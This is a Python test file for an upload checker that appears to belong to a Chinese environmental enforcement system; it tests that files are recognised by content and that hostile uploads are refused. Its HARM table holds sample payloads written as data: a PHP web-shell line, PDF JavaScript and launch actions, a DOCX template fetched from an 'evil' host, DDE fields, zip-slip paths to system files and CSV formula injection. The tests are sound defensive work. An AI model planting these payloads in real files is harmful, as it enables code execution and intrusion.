"""Each kind that is taken passes; whatever is not plainly that kind is refused, for the right reason."""

from __future__ import annotations

import mmap
import re
import tempfile
from collections.abc import Callable

import pytest
import vault_samples as samples

from zhihuan.bureau.vault.kinds.recognising import KINDS, recognise
from zhihuan.bureau.vault.limits import Limits
from zhihuan.bureau.vault.refusals import RefusedFileError

SMALL = Limits(unfolded=2**20)

GOOD: dict[str, tuple[str, Callable[[], bytes]]] = {
    "jpeg": ("现场.jpg", samples.photo),
    "png": ("截图.png", lambda: samples.picture("PNG")),
    "webp": ("a.webp", lambda: samples.picture("WEBP")),
    "pdf": ("预案.pdf", samples.pdf),
    "docx": ("决定书.docx", samples.docx),
    "xlsx": ("台账.xlsx", samples.xlsx),
    "mp4": ("执法记录.mp4", samples.mp4),
    "m4a": ("询问.m4a", lambda: samples.mp4(b"M4A ")),
    "webm": ("录像.webm", samples.webm),
    "ogg": ("录音.ogg", samples.ogg),
    "csv": ("数据.csv", lambda: "时间,化学需氧量\n2026-11-03,-5.2\n".encode("gb18030")),
    "text": ("说明.txt", "情况说明\r\n".encode),
}


@pytest.mark.parametrize("code", GOOD)
def test_every_kind_is_known_by_its_content(code: str) -> None:
    name, make = GOOD[code]
    found = recognise(make(), name, Limits())
    assert found.kind.code == code
    assert found.name == name


def test_every_kind_that_is_taken_has_a_sample() -> None:
    assert set(GOOD) == set(KINDS) - {"heic"}


@pytest.mark.parametrize("code", GOOD)
def test_a_large_file_that_is_mapped_and_not_read_is_judged_the_same(code: str) -> None:
    name, make = GOOD[code]
    with tempfile.TemporaryFile() as file:
        file.write(make())
        file.flush()
        with mmap.mmap(file.fileno(), 0, access=mmap.ACCESS_READ) as mapped:
            assert recognise(mapped, name, Limits()).kind.code == code


@pytest.mark.parametrize("code", sorted(set(GOOD) - {"csv", "text"}))
def test_a_file_that_was_cut_short_is_refused_as_incomplete(code: str) -> None:
    name, make = GOOD[code]
    content = make()
    with pytest.raises(RefusedFileError) as refused:
        recognise(content[: len(content) * 3 // 4], name, Limits())
    assert refused.value.code in {"broken", "unknown_kind"}


# ---- names against contents ----


@pytest.mark.parametrize("code", GOOD)
def test_a_content_under_the_name_of_another_kind_is_refused(code: str) -> None:
    make = GOOD[code][1]
    other = "x.png" if code != "png" else "x.pdf"
    with pytest.raises(RefusedFileError) as refused:
        recognise(make(), other, Limits())
    assert refused.value.code == "wrong_ending"


def test_a_program_called_a_picture_is_refused_and_named_for_what_it_is() -> None:
    with pytest.raises(RefusedFileError) as refused:
        recognise(b"MZ\x90\0" + bytes(200), "photo.jpg", Limits())
    assert refused.value.code == "unknown_kind"
    assert refused.value.hostile
    assert "可以上传" in refused.value.mend


def test_a_page_without_an_accepted_kind_says_which_it_wants() -> None:
    with pytest.raises(
        RefusedFileError, match=r"不收这种文件（按内容识别为：JPEG 图片）。.*PDF 文档"
    ):
        recognise(samples.photo(), "a.jpg", Limits(), ("pdf",))


def test_heic_is_known_and_the_way_out_told() -> None:
    with pytest.raises(RefusedFileError, match="兼容性最佳"):
        recognise(samples.box(b"ftyp", b"heic\0\0\0\0mif1heic"), "IMG_1.HEIC", Limits())


def test_an_empty_file_is_refused() -> None:
    with pytest.raises(RefusedFileError) as refused:
        recognise(b"", "a.pdf", Limits())
    assert refused.value.code == "empty"


def test_each_family_has_its_own_limit() -> None:
    limits = Limits({"image": 10_000, "document": 100, "table": 10_000, "media": 10_000})
    recognise(samples.photo((16, 16)), "a.jpg", limits)
    with pytest.raises(RefusedFileError) as refused:
        recognise(samples.pdf(), "a.pdf", limits)
    assert refused.value.code == "too_large"


# ---- harm ----

SCRIPT = b"<script>alert(1)</script>"
MOTION = b"\0" * 8 + samples.mp4()
MACRO = {"word/vbaProject.bin": b"x"}
EXTERNAL = '<Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/>'
LINK = '<Relationship Id="r1" Type="http://x/hyperlink" Target="https://www.mee.gov.cn" TargetMode="External"/>'
JS = b"4 0 obj <</S /JavaScript /JS (app.alert\\(1\\))>> endobj"
ENTITIES = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaa">]><d>&a;</d>'

HARM: dict[str, tuple[str, str, Callable[[], bytes]]] = {
    "script in a comment of a picture": ("active_content", "a.jpg", lambda: _commented(SCRIPT)),
    "PHP behind a picture": ("active_content", "a.jpg", lambda: samples.photo() + b"<?php system($_GET[0]);"),
    "archive behind a picture": ("polyglot", "a.jpg", lambda: samples.photo() + samples.zipped([("a.js", b"x")])),
    "PDF in a picture": ("polyglot", "a.jpg", lambda: _commented(b"%PDF-1.7")),
    "archive behind a film": ("polyglot", "a.mp4", lambda: samples.mp4(free=samples.zipped([("a", b"x")]))),
    "script in a film": ("active_content", "a.mp4", lambda: samples.mp4(free=SCRIPT)),
    "something behind a PNG": ("behind_the_end", "a.png", lambda: samples.picture("PNG") + b"x"),
    "picture that unfolds to a gigapixel": ("bomb", "a.png", lambda: samples.png_of(40_000, 30_000)),
    "script in a PDF": ("active_content", "a.pdf", lambda: samples.pdf(JS)),
    "script in a PDF, spelt otherwise": ("active_content", "a.pdf", lambda: samples.pdf(JS.replace(b"/JavaScript", b"/J#61va#53cript"))),
    "script in a PDF, folded away": ("active_content", "a.pdf", lambda: samples.pdf(samples.object_stream(JS))),
    "script in a PDF, folded in a way unknown": ("hidden_content", "a.pdf", lambda: samples.pdf(samples.object_stream(JS, b"/Filter /LZWDecode"))),
    "PDF that starts a program": ("active_content", "a.pdf", lambda: samples.pdf(catalogue=b"/OpenAction <</S /Launch /F (calc.exe)>>")),
    "file attached to a PDF": ("active_content", "a.pdf", lambda: samples.pdf(b"5 0 obj <</Type /EmbeddedFile>> endobj")),
    "PDF with a password": ("locked", "a.pdf", lambda: samples.pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 7 0 R")),
    "PDF that unfolds to much": ("bomb", "a.pdf", lambda: samples.pdf(samples.object_stream(b" " * 2**21))),
    "page behind a PDF": ("behind_the_end", "a.pdf", lambda: samples.pdf() + b"<b>x</b>"),
    "macro": ("macro", "a.docx", lambda: samples.docx(MACRO)),
    "embedded program": ("macro", "a.docx", lambda: samples.docx({"word/embeddings/oleObject1.bin": b"x"})),
    "type that allows macros": ("macro", "a.xlsx", lambda: samples.xlsx({"[Content_Types].xml": b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"})),
    "template from elsewhere": ("reaches_out", "a.docx", lambda: samples.docx(relations=EXTERNAL)),
    "link that runs": ("reaches_out", "a.docx", lambda: samples.docx(relations=LINK.replace("https:", "file:"))),
    "DDE in pieces": ("macro", "a.docx", lambda: samples.docx(body="<w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\\\x</w:instrText>")),
    "entities": ("entities", "a.docx", lambda: samples.docx({"word/styles.xml": ENTITIES})),
    "entities in UTF-16": ("entities", "a.docx", lambda: samples.docx({"word/styles.xml": ENTITIES.decode().encode("utf-16")})),
    "archive that unfolds to much": ("bomb", "a.docx", lambda: samples.docx({"word/media/a.xml": b" " * 2**21})),
    "entry that leads out": ("zip_slip", "a.xlsx", lambda: samples.xlsx({"../../etc/cron.d/x": b"x"})),
    "absolute entry": ("zip_slip", "a.xlsx", lambda: samples.xlsx({"/etc/passwd": b"x"})),
    "archive before which something stands": ("unknown_kind", "a.docx", lambda: b"MZ" + samples.docx()),
    "archive behind which something stands": ("odd_archive", "a.docx", lambda: samples.docx() + b"x"),
    "SVG called text": ("markup", "a.txt", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>"),
    "web page called text": ("markup", "a.txt", lambda: b"\xef\xbb\xbf <!DOCTYPE html><html></html>"),
    "script in text": ("active_content", "a.csv", lambda: b"a,b\n<script src=//evil></script>,1\n"),
    "formula that runs": ("formula", "a.csv", lambda: b"a,b\n=cmd|' /C calc'!A0,1\n"),
    "formula that fetches": ("formula", "a.csv", lambda: b"a\n\"=HYPERLINK(\"\"http://evil\"\")\"\n"),
    "macro document by its own name": ("macro", "a.docm", lambda: samples.docx(MACRO)),
    "SVG": ("markup", "a.svg", lambda: b"<svg onload='x()'/>"),
}  # fmt: skip


def _commented(comment: bytes) -> bytes:
    """A JPEG with a comment segment before everything else."""
    segment = b"\xff\xfe" + (len(comment) + 2).to_bytes(2, "big") + comment
    content = samples.photo()
    return content[:2] + segment + content[2:]


@pytest.mark.parametrize("what", HARM)
def test_harm_is_refused_for_what_it_is_with_what_to_do(what: str) -> None:
    code, name, make = HARM[what]
    with pytest.raises(RefusedFileError) as refused:
        recognise(make(), name, SMALL)
    assert refused.value.code == code
    assert refused.value.mend


def test_what_a_telephone_puts_behind_its_picture_is_no_harm() -> None:
    """Motion photographs: a film behind the end of the JPEG."""
    found = recognise(samples.photo() + MOTION, "MVIMG_1.jpg", Limits())
    assert found.facts["behind_the_end"] == len(MOTION)


def test_a_document_may_link_to_the_web_and_speak_of_dde_as_a_substance() -> None:
    body = "<w:t>滴滴伊 DDE 未检出</w:t>"
    assert recognise(samples.docx(relations=LINK, body=body), "a.docx", Limits())


def test_an_object_stream_without_harm_is_no_harm() -> None:
    content = samples.pdf(samples.object_stream(b"10 0 <</Type /Font>>"))
    assert recognise(content, "a.pdf", Limits()).facts["pages"] == 1


def test_an_archive_whose_directory_lies_about_sizes_is_counted_as_it_unfolds() -> None:
    content = bytearray(samples.docx({"word/a.xml": b" " * 2**21}))
    size = (2**21).to_bytes(4, "little")
    place = content.rindex(size)  # in the directory
    content[place : place + 4] = (10).to_bytes(4, "little")
    with pytest.raises(RefusedFileError) as refused:
        recognise(bytes(content), "a.docx", SMALL)
    assert refused.value.code in {"bomb", "broken"}


# ---- what pictures tell ----


def test_time_place_and_camera_are_read() -> None:
    exif = recognise(samples.photo(), "a.jpg", Limits()).facts["exif"]
    assert exif["taken_at"] == "2026-11-03T09:15:30+08:00"
    assert exif["taken_at_zone"] == "camera"
    assert (exif["lon"], exif["lat"]) == pytest.approx((113.42, 22.68), abs=1e-6)
    assert (exif["make"], exif["model"])[1] == "HX-20"


def test_a_camera_that_names_no_zone_is_taken_for_beijing_and_said_so() -> None:
    exif = recognise(samples.photo(offset=""), "a.jpg", Limits()).facts["exif"]
    assert exif["taken_at"] == "2026-11-03T09:15:30+08:00"
    assert exif["taken_at_zone"] == "assumed"


@pytest.mark.parametrize("taken", ["0000:00:00 00:00:00", "gestern", "2026:13:41 99:00:00"])
def test_a_time_that_is_none_is_left_out_and_the_picture_taken(taken: str) -> None:
    assert "taken_at" not in recognise(samples.photo(taken=taken), "a.jpg", Limits()).facts["exif"]


def test_a_camera_without_a_fix_gives_no_place() -> None:
    exif = recognise(samples.photo(place=(0.0, 0.0)), "a.jpg", Limits()).facts["exif"]
    assert "lon" not in exif


@pytest.mark.parametrize("accepted", [("pdf", "docx"), ()])
def test_a_document_of_old_word_or_wps_is_told_how_to_be_saved_anew(
    accepted: tuple[str, ...],
) -> None:
    old = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600)
    with pytest.raises(RefusedFileError) as refused:
        recognise(old, "预案.doc", Limits(), accepted)
    assert refused.value.code == "unknown_kind"
    assert "旧版 Office 或 WPS 文件" in refused.value.words
    assert ".docx" in refused.value.mend
    assert ".pdf" in refused.value.mend
    assert (".xlsx" in refused.value.mend) is not bool(accepted)


def test_what_is_refused_names_what_is_taken_in_this_place_alone() -> None:
    for content in (b"Rar!\x1a\x07\x00" + bytes(90), samples.photo()):
        with pytest.raises(RefusedFileError) as refused:
            recognise(content, "a.pdf", Limits(), ("pdf", "docx"))
        assert refused.value.mend.endswith("PDF 文档、Word 文档。")
        assert not re.search("[a-z]{4}", refused.value.words)
